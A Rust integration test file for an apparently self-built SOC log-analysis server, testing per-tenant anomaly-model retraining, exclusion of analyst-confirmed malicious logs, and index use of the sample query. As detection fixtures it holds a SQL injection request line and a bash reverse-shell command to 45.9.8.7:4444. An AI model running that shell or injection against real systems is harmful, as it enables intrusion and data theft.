//! Retraining feeds a recent sample of the tenant's own logs to the anomaly side
//! (`ML_ANOMALY_SAMPLE_SIZE`): on SQLite and (with `SOC_TEST_PG_URL`) PostgreSQL.

mod common;

use std::time::{Duration, Instant};

use common::{Backend, TestServer};
use serde_json::{Value, json};
use soc_core::Detector;
use soc_server::detection::{self, is_held_out};

/// Lines of the tenant's own application: a format the built-in sample corpus never shows.
fn app_lines(range: std::ops::Range<usize>) -> Vec<String> {
    let stages = ["reconcile", "settle", "dispatch", "archive"];
    range
        .map(|i| {
            format!(
                "ledgerd worker={} INFO batch={} stage={} shard=eu-{} rows={} elapsed_ms={} \
                 queue_depth={} retries={} upstream=clearing-{}.internal region=eu-west-{} \
                 tenant_ref=acct{} checksum_ok=true compression=zstd level={}",
                4000 + i % 17,
                i * 7919,
                stages[i % stages.len()],
                i % 5,
                100 + (i * 37) % 900,
                3 + (i * 13) % 250,
                i % 31,
                i % 3,
                i % 9,
                1 + i % 3,
                10_000 + i * 13 % 5000,
                1 + i % 9
            )
        })
        .collect()
}

async fn spawn_with_sample_size(b: Backend, sample_size: usize) -> TestServer {
    let dir = common::temp_dir();
    let url = common::fresh_database(b, &dir).await.unwrap();
    let mut config = soc_server::Config::defaults();
    config.database_url = Some(url);
    config.data_dir = dir;
    config.log_dir = std::path::PathBuf::new();
    config.port = 0;
    config.max_agents_per_tenant = 1000;
    config.ml_anomaly_sample_size = sample_size;
    common::spawn_with(config, true).await
}

async fn ingest(s: &TestServer, agent_key: &str, agent_id: i64, lines: &[String]) {
    for chunk in lines.chunks(1000) {
        let logs: Vec<Value> = chunk
            .iter()
            .map(|m| json!({"agent_id": agent_id, "message": m}))
            .collect();
        let (st, body) = s.post("/api/logs", agent_key, Value::Array(logs)).await;
        assert_eq!(st, 201, "{body}");
    }
}

async fn version_detector(s: &TestServer, tenant_id: i64, version: &str) -> Detector {
    let bytes = detection::artifact(&s.state, tenant_id, version)
        .await
        .unwrap();
    Detector::from_bytes(&bytes).unwrap()
}

fn recorded_metrics(mv: &soc_server::db::ModelVersion) -> Value {
    serde_json::from_str(&mv.metrics).unwrap()
}

/// (mean calibrated anomaly, lines whose anomaly alone reaches the threat threshold,
/// threats) of a detector on `lines`.
fn summary(d: &Detector, lines: &[String]) -> (f64, usize, usize) {
    let scores = d.score(lines);
    let threshold = d.risk_scorer().params().threshold;
    (
        scores.iter().map(|s| s.anomaly).sum::<f64>() / lines.len() as f64,
        scores.iter().filter(|s| s.anomaly >= threshold).count(),
        scores.iter().filter(|s| d.is_threat(s.risk)).count(),
    )
}

async fn tenant_logs_teach_the_retrained_model_its_normal_traffic(b: Backend) {
    let s = spawn_with_sample_size(b, 20_000).await;
    let global = s.state.pipeline.report().active_model_version.unwrap();
    let (t, admin, analyst, agent) = s.tenant("acme").await;
    let a = s.agent(&agent, "ledger-1").await;
    let traffic = app_lines(0..3000);
    ingest(&s, &agent, a, &traffic).await;
    // An attack among the logs, confirmed by an analyst: it must not become "normal".
    let attack = "185.3.2.1 - - \"GET /products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1\" 500 312 \"-\" \"sqlmap/1.7.2#stable\"";
    ingest(&s, &agent, a, &[attack.to_owned()]).await;
    let (_, logs) = s.get("/api/logs?limit=1", &analyst).await;
    assert_eq!(logs["logs"][0]["message"], attack);
    let attack_log = logs["logs"][0]["id"].as_i64().unwrap();
    let t0 = Instant::now();
    let threat_id = loop {
        let (_, list) = s.get("/api/threats?limit=1000", &analyst).await;
        let hit = list["threats"]
            .as_array()
            .unwrap()
            .iter()
            .find(|th| th["log_id"] == attack_log)
            .and_then(|th| th["id"].as_i64());
        if let Some(id) = hit {
            break id;
        }
        assert!(
            t0.elapsed() < Duration::from_secs(60),
            "attack not detected"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    let (st, body) = s
        .patch(
            &format!("/api/threats/{threat_id}"),
            &analyst,
            json!({"verdict": "true_positive"}),
        )
        .await;
    assert_eq!(st, 200, "{body}");
    // A line imported as a malicious label: also left out of the sample.
    let imported = "type=EXECVE msg=audit(1760000000.123:4242): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/45.9.8.7/4444 0>&1\"";
    ingest(&s, &agent, a, &[imported.to_owned()]).await;
    let (st, body) = s
        .post(
            "/api/labels",
            &analyst,
            json!([{"message": imported, "malicious": true}]),
        )
        .await;
    assert_eq!(st, 201, "{body}");
    assert!(
        !is_held_out(imported),
        "pick a line outside the held-out split"
    );

    // The database query itself leaves out the log an analyst's verdict marked malicious.
    let recent = s
        .state
        .db
        .recent_log_messages(t, 10_000, usize::MAX)
        .await
        .unwrap();
    assert_eq!(recent.len(), traffic.len() + 1);
    assert!(!recent.iter().any(|m| m == attack));
    assert_eq!(recent[0], imported, "newest first");
    assert_eq!(recent[1], traffic[traffic.len() - 1]);
    // The limit and the byte budget both bound it.
    let newest = s
        .state
        .db
        .recent_log_messages(t, 10, usize::MAX)
        .await
        .unwrap();
    assert_eq!(newest[..], recent[..10]);
    let budget = recent[0].len() + recent[1].len();
    let within = s.state.db.recent_log_messages(t, 10, budget).await.unwrap();
    assert_eq!(within.len(), 2);

    // Retrain through the API, as an operator would.
    let (st, body) = s.post("/api/models/retrain", &admin, json!({})).await;
    assert_eq!(st, 202, "{body}");
    let poll = body["poll"].as_str().unwrap().to_owned();
    let t0 = Instant::now();
    let job = loop {
        let (_, body) = s.get(&poll, &admin).await;
        if body["job"]["status"] != "running" {
            break body["job"].clone();
        }
        assert!(t0.elapsed() < Duration::from_secs(180), "retrain too slow");
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert_eq!(job["status"], "succeeded", "{job}");
    let version = job["outcome"]["version"].as_str().unwrap().to_owned();
    let mv = s
        .state
        .db
        .model_version(t, &version)
        .await
        .unwrap()
        .unwrap();
    let expected = traffic.iter().filter(|m| !is_held_out(m)).count();
    assert!(expected > 2000 && expected < traffic.len(), "{expected}");
    assert_eq!(
        recorded_metrics(&mv)["corpus"]["unlabeled_sample"],
        json!(expected)
    );
    // The API shows it too.
    let (_, shown) = s.get(&format!("/api/models/{version}"), &analyst).await;
    assert_eq!(
        shown["model"]["metrics"]["corpus"]["unlabeled_sample"],
        json!(expected)
    );

    // Fresh lines of the tenant's format (never ingested): the new model finds them less
    // unusual than the model that served the tenant before, and flags none for being unusual.
    let fresh = app_lines(10_000..10_300);
    let before = summary(&version_detector(&s, 0, &global).await, &fresh);
    let after = summary(&version_detector(&s, t, &version).await, &fresh);
    assert!(
        after.0 < before.0 - 0.05 && after.1 == 0 && after.2 <= before.2,
        "(mean anomaly, unusual, threats) on the tenant's format: before {before:?}, after {after:?}"
    );
    // Attacks still stand out.
    let new = version_detector(&s, t, &version).await;
    assert!(new.is_threat(new.score_one(attack).risk));
}

async fn sample_size_zero_trains_on_labels_only(b: Backend) {
    let s = spawn_with_sample_size(b, 0).await;
    let (t, _, _, agent) = s.tenant("acme").await;
    let a = s.agent(&agent, "ledger-1").await;
    ingest(&s, &agent, a, &app_lines(0..1500)).await;

    let tenant = detection::retrain_tenant(&s.state, t).await.unwrap();
    let mv = s
        .state
        .db
        .model_version(t, &tenant.version)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(recorded_metrics(&mv)["corpus"]["unlabeled_sample"], 0);
    // Without labels or logs the tenant's corpus is the global one: the same detector.
    let global = detection::retrain(&s.state).await.unwrap();
    let gmv = s.state.db.model_version(0, &global).await.unwrap().unwrap();
    assert_eq!(recorded_metrics(&gmv)["corpus"]["unlabeled_sample"], 0);
    let fresh = app_lines(10_000..10_200);
    let (d_tenant, d_global) = (
        version_detector(&s, t, &tenant.version).await,
        version_detector(&s, 0, &global).await,
    );
    assert_eq!(d_tenant.score(&fresh), d_global.score(&fresh));
    assert_eq!(d_tenant.vectorizer(), d_global.vectorizer());
}

async fn global_model_never_reads_tenant_logs(b: Backend) {
    let s = spawn_with_sample_size(b, 20_000).await;
    let (_, _, _, agent) = s.tenant("acme").await;
    let a = s.agent(&agent, "ledger-1").await;
    let first = detection::retrain(&s.state).await.unwrap();
    ingest(&s, &agent, a, &app_lines(0..1500)).await;
    let second = detection::retrain(&s.state).await.unwrap();
    let mv = s.state.db.model_version(0, &second).await.unwrap().unwrap();
    assert_eq!(recorded_metrics(&mv)["corpus"]["unlabeled_sample"], 0);
    // The tenant's traffic changed nothing in the global model.
    let fresh = app_lines(10_000..10_200);
    assert_eq!(
        version_detector(&s, 0, &first).await.score(&fresh),
        version_detector(&s, 0, &second).await.score(&fresh)
    );
}

/// The sample query walks the `(tenant_id, id)` index backwards: no scan of the table, no
/// sort, and the malicious-label check is an index lookup.
async fn sample_query_is_served_by_indexes(b: Backend) {
    let db = common::fresh_db(b).await.unwrap();
    let sql = soc_server::Db::RECENT_LOGS_SQL;
    match &db {
        soc_server::Db::Sqlite(p) => {
            let plan: Vec<(i64, i64, i64, String)> =
                sqlx::query_as(&format!("EXPLAIN QUERY PLAN {sql}"))
                    .bind(1_i64)
                    .bind(100_i64)
                    .fetch_all(p)
                    .await
                    .unwrap();
            let plan: Vec<&str> = plan.iter().map(|r| r.3.as_str()).collect();
            let text = plan.join("\n");
            assert!(!text.contains("TEMP B-TREE"), "{text}");
            assert!(
                plan.iter()
                    .any(|l| l.contains("agent_logs") && l.contains("idx_agent_logs_tenant")),
                "{text}"
            );
            assert!(
                plan.iter()
                    .any(|l| l.contains("labels") && l.contains("idx_labels_log")),
                "{text}"
            );
            assert!(!plan.iter().any(|l| l.starts_with("SCAN")), "{text}");
        }
        soc_server::Db::Postgres(p) => {
            // Planned on realistic statistics: two tenants of 100 000 logs each, a few labels.
            for sql in [
                "INSERT INTO tenants (id, name, created_at) VALUES (1, 'a', 0), (2, 'b', 0)",
                "INSERT INTO agents (tenant_id, id, hostname, created_at, last_seen) \
                 VALUES (1, 1, 'h', 0, 0), (2, 1, 'h', 0, 0)",
                "INSERT INTO agent_logs (tenant_id, agent_id, timestamp, received_at, message) \
                 SELECT 1 + g % 2, 1, g, g, 'line ' || g FROM generate_series(1, 200000) g",
                "INSERT INTO labels (tenant_id, log_id, message, malicious, source, created_at) \
                 SELECT 1, g * 2, 'x', TRUE, 'verdict', 0 FROM generate_series(1, 500) g",
                "ANALYZE",
            ] {
                sqlx::query(sql).execute(p).await.unwrap();
            }
            let plan: Vec<String> = sqlx::query_scalar(&format!("EXPLAIN {sql}"))
                .bind(1_i64)
                .bind(20_000_i64)
                .fetch_all(p)
                .await
                .unwrap();
            let text = plan.join("\n");
            // The logs come in index order (the planner may still sort the few labels).
            assert!(!text.contains("Sort Key: a."), "{text}");
            assert!(!text.contains("Seq Scan on agent_logs"), "{text}");
            assert!(
                text.contains("Index Scan Backward using agent_logs_pkey"),
                "{text}"
            );
        }
    }
}

both_backends!(
    tenant_logs_teach_the_retrained_model_its_normal_traffic,
    sample_size_zero_trains_on_labels_only,
    global_model_never_reads_tenant_logs,
    sample_query_is_served_by_indexes,
);
